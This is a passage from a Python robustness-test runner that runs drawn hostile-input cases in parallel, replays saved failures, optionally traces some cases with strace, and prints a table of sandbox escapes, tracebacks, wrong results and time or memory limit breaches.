        "outside": "opened",
        "traceback": "tracebacks",
        "lost": "lost",
        "other": "wrong",
        "limits": "limits",
    }
    lines = [" ".join([f"{'document':22}  cases", *(f"{name:>9}" for name in columns), "  slowest  largest"])]

    def line(name: str, own: Sequence[Verdict]) -> str:
        counts = [sum(bool(getattr(verdict, what)) for verdict in own) for what in columns.values()]
        slowest, largest = max(verdict.seconds for verdict in own), max(verdict.bytes for verdict in own)
        shown = " ".join(f"{count:9}" for count in counts)
        return f"{name:22} {len(own):6} {shown} {slowest:7.1f} s {largest / 1e6:5.0f} MB"

    for kind in dict.fromkeys(verdict.kind for verdict in verdicts):
        lines.append(line(kind, [verdict for verdict in verdicts if verdict.kind == kind]))
    lines.append(line("all", verdicts))
    met = all(verdict.good for verdict in verdicts)
    lines.append(
        f"goals (0 of each; {MOST_SECONDS:g} s and {MOST_BYTES / 1e9:g} GB at most): {'met' if met else 'MISSED'}"
    )
    return lines


def show(verdict: Verdict) -> None:
    """A failure on one line or a few."""
    print(f"FAILED {verdict.name}: {verdict.note}", ascii(verdict.codes))
    for what in ("opened", "tracebacks", "lost", "wrong", "limits"):
        for item in getattr(verdict, what)[:4]:
            print(f"    {what}: {ascii(item)[1:-1]}", flush=True)


def main() -> int:
    """Run cases and print what came of them."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=2000, help="cases in all")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--kind", action="append", choices=list(KINDS), help="only these")
    parser.add_argument("--jobs", type=int, default=2, help="cases at a time")
    parser.add_argument("--seconds", type=float, default=MOST_SECONDS, help="a case may take")
    parser.add_argument("--strace", type=int, default=4, help="cases that strace watches once more")
    parser.add_argument("--repeat", type=Path, action="append", help="case.json of a failure")
    parser.add_argument("--folder", type=Path, help="an empty folder for all files")
    for hidden in ("--inside", "--stock"):
        parser.add_argument(hidden, type=Path, help=argparse.SUPPRESS)
    parser.add_argument("--number", type=int, help=argparse.SUPPRESS)
    chosen = parser.parse_args()
    if chosen.inside:
        case(Verdict(chosen.kind[0], chosen.number, chosen.seed), chosen.inside, chosen.stock)
        return 0
    started = time.monotonic()
    folder = chosen.folder or Path(tempfile.mkdtemp(prefix="hostile-"))
    seed = chosen.seed
    cases = drawn_cases(chosen.count, chosen.kind or [*KINDS])
    if chosen.repeat:
        noted = [json.loads(path.read_text()) for path in chosen.repeat]
        seed, cases = noted[0]["seed"], [(one["kind"], one["number"]) for one in noted]
    bench = Bench(folder, seed, chosen.jobs, chosen.seconds)
    bench.prepare()
    print(f"{len(cases)} cases of seed {seed}, {chosen.jobs} at a time", flush=True)
    verdicts: list[Verdict] = []

    def finished(verdict: Verdict) -> None:
        verdicts.append(verdict)
        if len(verdicts) % 200 == 0:
            print(f"{len(verdicts)} of {len(cases)} in {time.monotonic() - started:.0f} s", flush=True)
        if not verdict.good:
            show(verdict)
        if chosen.repeat:
            print(
                *(f"    {name}: {getattr(verdict, name)}" for name in ("note", "codes", "seconds", "bytes")),
                sep="\n",
            )
            kept = bench.kept / verdict.name / "stderr"
            print(kept.read_text(errors="backslashreplace")[-4000:] if kept.exists() else "")

    bench.run(cases, finished)
    if shutil.which("strace") and not chosen.repeat:
        picked = [one for one in cases if one[0] in ("recording M4A", "speak transcript", "dataset, report")]
        for kind, number in random.Random(seed).sample(picked, min(chosen.strace, len(picked))):
            verdict = traced(bench, kind, number)
            if any(item.startswith("strace") for item in verdict.opened):
                show(verdict)
            verdict.kind = "under strace"
            verdicts.append(verdict)
    print(*report(verdicts), sep="\n")
    print(
        f"{time.monotonic() - started:.0f} s; failures are in {bench.kept}"
        if any(not one.good for one in verdicts)
        else f"{time.monotonic() - started:.0f} s"
    )
    shutil.rmtree(folder / "cases", ignore_errors=True)
    return 0 if all(one.good for one in verdicts) else 1


if __name__ == "__main__":
    sys.exit(main())
